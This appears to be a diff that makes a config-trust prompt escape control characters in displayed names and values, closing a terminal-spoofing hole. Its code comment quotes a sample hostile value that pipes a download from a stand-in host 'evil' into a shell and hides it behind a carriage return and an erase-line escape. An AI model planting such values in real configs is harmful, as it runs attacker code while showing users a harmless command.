@@ -40,6 +40,7 @@ from pathlib import Path
 from qmd.core.errors import QmdError
 from qmd.core.records import field, record
 from qmd.core.paths import is_local_config, trust_file_path
+from qmd.core.text import line_safe
 
 TYPE_CHECKING = False
 if TYPE_CHECKING:
@@ -78,7 +79,8 @@ class Gated:
         ):
             if items:
                 out.append(title)
-                out += [f"  {name}: {value}" for name, value in items]
+                # inert on a terminal: a cloned config's `update: "curl evil | sh #\r\e[2K  n: git pull"` showed only the part after \r
+                out += [f"  {line_safe(str(name))}: {line_safe(str(value))}" for name, value in items]
         return out
 
 
